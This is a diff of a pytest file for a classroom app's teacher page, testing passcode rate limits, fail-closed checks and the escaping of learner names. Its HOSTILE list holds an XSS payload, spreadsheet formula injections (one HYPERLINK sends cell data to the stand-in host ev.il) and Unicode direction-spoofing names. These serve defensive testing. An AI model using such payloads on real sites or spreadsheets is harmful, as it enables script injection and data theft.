@@ -1,4 +1,6 @@
-"""The teacher's page: its gate, and its numbers on a known set of answers (both backends)."""
+"""The teacher's page: its gate (counted before judged, per page, per device and for
+everyone), its numbers on a known set of answers, and learners' names shown as text (both
+backends)."""
 from __future__ import annotations
 
 import base64
@@ -10,9 +12,14 @@ import pytest
 
 from widgets.classroom import teacher as teacher_module
 from widgets.classroom.config import Settings
+from widgets.classroom.limits import GATE
 from widgets.classroom.stats import percent
-from widgets.classroom.store import Answer
+from widgets.classroom.store import Answer, format_code
 from widgets.classroom.teacher import MAX_TRIES, TeacherPage
+
+from classroom_helpers import hold_write_lock, make_read_only, make_writable
+
+PASSCODE = "s3cret-passcode"
 
 
 @pytest.fixture(autouse=True)
@@ -20,8 +27,13 @@ def no_delay(monkeypatch):
     monkeypatch.setattr(teacher_module, "WRONG_DELAY", 0)
 
 
-def page(store, passcode="s3cret-passcode") -> TeacherPage:
-    return TeacherPage(Settings(database="unused", teacher_passcode=passcode), store=store)
+def page(store, passcode=PASSCODE, device: str | None = "teachers-laptop-0001") -> TeacherPage:
+    """A teacher page as a browser opens it: ``device`` is the id its browser keeps."""
+    teacher = TeacherPage(Settings(database="unused", teacher_passcode=passcode), store=store,
+                          environ={})
+    if device is not None:
+        teacher.browser.client = device
+    return teacher
 
 
 def known_class(store) -> str:
@@ -46,7 +58,7 @@ def known_class(store) -> str:
 def test_the_numbers_on_a_known_class(store):
     code = known_class(store)
     teacher = page(store)
-    assert teacher.unlock("s3cret-passcode")
+    assert teacher.unlock(PASSCODE)
     teacher.show(code)
     (q1, q2) = teacher.questions
     assert (q1.key, q1.answers, q1.right, percent(q1.right, q1.answers)) == (
@@ -77,10 +89,11 @@ def test_the_numbers_on_a_known_class(store):
 def test_a_new_class_code_is_shown_to_project(store):
     teacher = page(store)
     assert teacher.new_class("Monday") is None  # locked: nothing
-    teacher.unlock("s3cret-passcode")
+    teacher.unlock(PASSCODE)
     code = teacher.new_class("Monday")
     assert store.class_exists(code) and teacher.picker.value == code
-    assert code in teacher.message and code in teacher.code_html.value
+    shown = format_code(code)  # KX7PQ-2MRTA: to read aloud
+    assert shown in teacher.message and shown in teacher.code_html.value
 
 
 def test_the_gate_refuses_wrong_passcodes(store):
@@ -90,7 +103,7 @@ def test_the_gate_refuses_wrong_passcodes(store):
         assert not teacher.unlock(wrong)
         assert teacher.message == "Wrong passcode." and not teacher.unlocked
     assert teacher.body.children == () and teacher.learners == []
-    assert not teacher.unlock("s3cret-passcode")  # MAX_TRIES reached: refused even if right
+    assert not teacher.unlock(PASSCODE)  # MAX_TRIES reached: refused even if right
     assert teacher.tries == MAX_TRIES and "Too many" in teacher.message
     teacher.refresh()
     assert teacher.rows == []
@@ -105,7 +118,7 @@ def test_without_a_passcode_the_teacher_page_is_off(store):
 def test_the_page_refreshes_itself_while_open(store):
     code = known_class(store)
     teacher = page(store)
-    teacher.unlock("s3cret-passcode")
+    teacher.unlock(PASSCODE)
     teacher.show(code)
     assert teacher.ticker.running
     late = store.join(code, "Late")
@@ -126,19 +139,138 @@ def test_names_cannot_become_spreadsheet_formulas():
     assert line[0] == "'=HYPERLINK(\"x\")" and line[10] == "1970-01-01T00:00:00+00:00"
 
 
-def test_reloading_does_not_help_a_guesser(store):
-    from widgets.classroom.teacher import GLOBAL_TRIES
+def guess(store, device: str | None, n: int) -> TeacherPage:
+    """``n`` wrong passcodes from ``device``, reloading the page whenever it refuses; the
+    last page."""
+    teacher = page(store, device=device)
+    for i in range(n):
+        if teacher.tries == MAX_TRIES:
+            teacher = page(store, device=device)  # a reload: a new page, its count at 0
+        assert not teacher.unlock(f"guess {i}") and teacher.message == "Wrong passcode."
+    return teacher
 
-    tries = 0
-    while tries < GLOBAL_TRIES:
-        teacher = page(store)  # a reload: a new page, its own count starts again
-        for _i in range(min(MAX_TRIES, GLOBAL_TRIES - tries)):
-            assert not teacher.unlock(f"guess {tries}")
-            tries += 1
+
+def test_reloading_does_not_help_a_guesser(store, clock):
+    teacher = guess(store, "a-learners-phone-01", GATE.client)
+    assert not teacher.unlock(PASSCODE) and "Too many" in teacher.message
+    reloaded = page(store, device="a-learners-phone-01")
+    assert not reloaded.unlock(PASSCODE)
+    assert "from this device" in reloaded.message and not reloaded.unlocked
+    assert store.count_attempts("gate", clock() - GATE.window) == GATE.client
+
+
+def test_one_learners_guesses_do_not_lock_the_teacher_out(store, clock):
+    guess(store, "a-learners-phone-01", GATE.client)
+    assert page(store, device="teachers-laptop-0001").unlock(PASSCODE)  # another device
+    assert store.count_attempts("gate", clock() - GATE.window) == GATE.client  # right: free
+    clock.advance(GATE.window + 1)
+    assert page(store, device="a-learners-phone-01").unlock(PASSCODE)  # ten minutes later
+
+
+def test_many_devices_close_the_page_for_everyone_for_a_while(store, clock):
+    phones = [f"learner-phone-{i:04d}" for i in range(GATE.everyone // GATE.client)]
+    for phone in phones:
+        guess(store, phone, GATE.client)
+    teacher = page(store, device="teachers-laptop-0001")
+    assert not teacher.unlock(PASSCODE) and "closed for a few minutes" in teacher.message
+    assert not page(store, device=None).unlock(PASSCODE)  # a page that sends no id: too
+    clock.advance(GATE.window + 1)
+    assert page(store, device="teachers-laptop-0001").unlock(PASSCODE)
+
+
+def test_a_page_that_sends_no_device_id_counts_with_everyone(store, clock):
+    guess(store, None, GATE.client)  # cannot be told apart: only the bound for everyone
+    assert page(store, device=None).unlock(PASSCODE)
+    assert page(store, device="teachers-laptop-0001").unlock(PASSCODE)
+
+
+def test_a_signed_in_user_is_the_client_not_the_browser(store, clock):
+    settings = Settings(database="unused", teacher_passcode=PASSCODE,
+                        user_header="X-Forwarded-User")
+    as_bia = {"HTTP_X_FORWARDED_USER": "bia"}
+    for i in range(GATE.client):  # Bia throws her browser's id away on every page
+        bia = TeacherPage(settings, store=store, environ=as_bia)
+        bia.browser.client = f"fresh-id-{i:010d}"
+        assert not bia.unlock("guess")
+    bia = TeacherPage(settings, store=store, environ=as_bia)
+    assert not bia.unlock(PASSCODE) and "from this device" in bia.message
+    assert TeacherPage(settings, store=store, environ={"HTTP_X_FORWARDED_USER": "teacher"}
+                       ).unlock(PASSCODE)
+
+
+def test_a_passcode_is_not_judged_when_a_wrong_try_cannot_be_counted(store, clock):
+    make_read_only(store)
     teacher = page(store)
-    assert not teacher.unlock("s3cret-passcode") and "closed for a few minutes" in \
-        teacher.message
-    assert store.gate_failures(60) == GLOBAL_TRIES
+    assert not teacher.unlock(PASSCODE)  # even the right one: it could have been a guess
+    assert "cannot be checked now" in teacher.message and "read-only" in teacher.message
+    assert not teacher.unlocked and teacher.body.children == ()
+    make_writable(store)
+    assert not teacher.unlock(PASSCODE)  # closed for a while: the database is not asked
+    assert "cannot be checked now" in teacher.message
+    assert store.count_attempts("gate", 0) == 0
+    clock.advance(teacher_module.CLOSED_SECONDS + 1)
+    assert teacher.unlock(PASSCODE)
+
+
+def test_a_locked_database_closes_the_gate_too(store, db_url, clock, monkeypatch):
+    monkeypatch.setattr(teacher_module, "GATE_WAIT", 0.2)
+    teacher = page(store)
+    with hold_write_lock(db_url):
+        assert not teacher.unlock(PASSCODE) and "cannot be checked now" in teacher.message
+    clock.advance(teacher_module.CLOSED_SECONDS + 1)
+    assert teacher.unlock(PASSCODE)
+
+
+def test_a_reset_database_is_said_on_the_open_teacher_page(store):
+    code = known_class(store)
+    teacher = page(store)
+    teacher.unlock(PASSCODE)
+    teacher.show(code)
+    with store._tx() as cur:  # what a reset leaves: no such class
+        for table in ("answers", "visits", "learners", "classes"):
+            cur.execute(f"DELETE FROM {table}")
+    teacher._on_tick(teacher.ticker, {"type": "tick"}, [])
+    assert teacher.tone == "error" and "no longer in the class database" in teacher.message
+    assert format_code(code) in teacher.message and not teacher.ticker.running
+
+
+HOSTILE = ['<img src=x onerror="alert(1)">', '=HYPERLINK("http://ev.il/?"&A1)',
+           "+1+2", "-2+3", "@SUM(A1:A9)", " =1+1", "\u202eexe.fdp", "Ana\u2067 \u2069Bia",
+           "\u200fRTL\u200e mark", "Tab\there"]
+
+
+def test_hostile_names_are_text_on_the_page_and_harmless_in_the_csv(store):
+    code = store.create_class("Room 4")
+    for name in HOSTILE:  # joined: cleaned on the way in
+        store.record_answer(store.join(code, name), Answer(
+            "03_tricks", "trick-1", 1, 1, "mineiro", "4c 3d", "3d", "4c", False))
+    with store._tx() as cur:  # stored raw (by hand, or before names were cleaned)
+        for i, name in enumerate(HOSTILE):
+            cur.execute(store._sql("INSERT INTO learners (token, class_code, name, created) "
+                                   "VALUES (?, ?, ?, 0)"), (f"raw-token-{i:020d}", code, name))
+    raw = [store.learner(f"raw-token-{i:020d}") for i in range(len(HOSTILE))]
+    for learner in raw:
+        store.record_answer(learner, Answer("03_tricks", "trick-1", 1, 1, "mineiro", "4c 3d",
+                                            "4c", "4c", True))
+    teacher = page(store)
+    teacher.unlock(PASSCODE)
+    teacher.show(code)
+    html = teacher.learners_html.value
+    assert "<img" not in html and "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in html
+    controls = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
+    assert not set(html) & set(controls)
+    assert "exe.fdp" in html and "Learners (20)" in html
+    assert html.count("<bdi>") == 20 * 5  # every cell isolated: no name reorders its row
+    link = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"',
+                     teacher.download.value)
+    text = base64.b64decode(link.group(1)).decode()
+    assert not set(text) & set(controls)
+    names = [r[0] for r in csv.reader(io.StringIO(text))][1:]
+    assert len(names) == 20
+    for name in names:
+        assert name.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t") or name.startswith("'")
+    assert "'=HYPERLINK(\"http://ev.il/?\"&A1)" in names
+    assert "'@SUM(A1:A9)" in names and "' =1+1" in names
 
 
 def test_a_question_with_two_right_answers_names_both():
